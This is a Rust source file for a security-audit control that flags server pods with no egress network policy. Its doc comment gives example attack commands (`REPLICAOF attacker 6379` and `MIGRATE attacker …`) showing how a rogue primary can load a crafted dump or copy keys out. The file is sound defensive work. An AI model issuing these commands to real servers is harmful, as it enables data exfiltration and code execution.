//! NET-011.

use redan_model::container::{Kubernetes, Platform};
use redan_model::{Confidence, Container, Evidence, Server};

use crate::control;
use crate::control::Context;
use crate::outcome::{Failure, Outcome};

control! {
    /// A pod that runs a server is selected by a network policy with egress rules; a compose
    /// service is on networks that are all `internal`, or the control does not apply. Policies
    /// that are kept elsewhere are not seen.
    ///
    /// # Why
    /// The known ways to turn access into code or into a copy of the data are connections that
    /// the server opens: replication from a rogue primary, `MIGRATE`, and the download of a
    /// second stage.
    ///
    /// # Attack
    /// `REPLICAOF attacker 6379` pulls a crafted dump; `MIGRATE attacker …` pushes the keys
    /// out.
    ///
    /// # Fix
    /// A `NetworkPolicy` with `policyTypes: [Ingress, Egress]` that allows the name service and
    /// the other nodes, nothing else.
    ///
    /// # Sources
    /// - Kubernetes network policies (<https://kubernetes.io/docs/concepts/services-networking/network-policies/>)
    /// - OWASP Docker Security Cheat Sheet (<https://cheatsheetseries.owasp.org/cheatsheets/Docker_Security_Cheat_Sheet.html>)
    "NET-011", "unlimited-egress";
    title: "Nothing limits where the server's pod may connect to",
    severity: Medium, aspect: Network,
    owasp: ["A05:2021"], iso27001: ["A.8.20", "A.8.22"], pci: ["1.3.2", "1.4.5"], nist_csf: ["PR.IR-01"], ley1581: [],
    consequence_of: ["CONT-020"],
    check: Server(check),
}

fn check(server: &Server, _: &Context<'_>) -> Outcome {
    let Some(container) = &server.container else { return Outcome::NotApplicable };
    match (&container.kubernetes, container.platform) {
        (Some(kubernetes), Platform::Kubernetes) => pod(container, kubernetes),
        (_, Platform::Compose) if is_internal(container) => Outcome::Pass,
        _ => Outcome::NotApplicable,
    }
}

fn pod(container: &Container, kubernetes: &Kubernetes) -> Outcome {
    if !kubernetes.egress_policies.is_empty() {
        return Outcome::Pass;
    }
    Failure::new("egress", "no network policy with egress rules selects the pod")
        .confidence(Confidence::Likely)
        .with(Evidence::file(&container.location, "may connect anywhere"))
        .with_all(
            kubernetes.ingress_policies.iter().map(|at| {
                Evidence::file(at, "limits who connects to it, not where it connects to")
            }),
        )
        .into()
}

fn is_internal(container: &Container) -> bool {
    !container.networks.is_empty()
        && container.networks.iter().all(|network| network.value.internal)
}
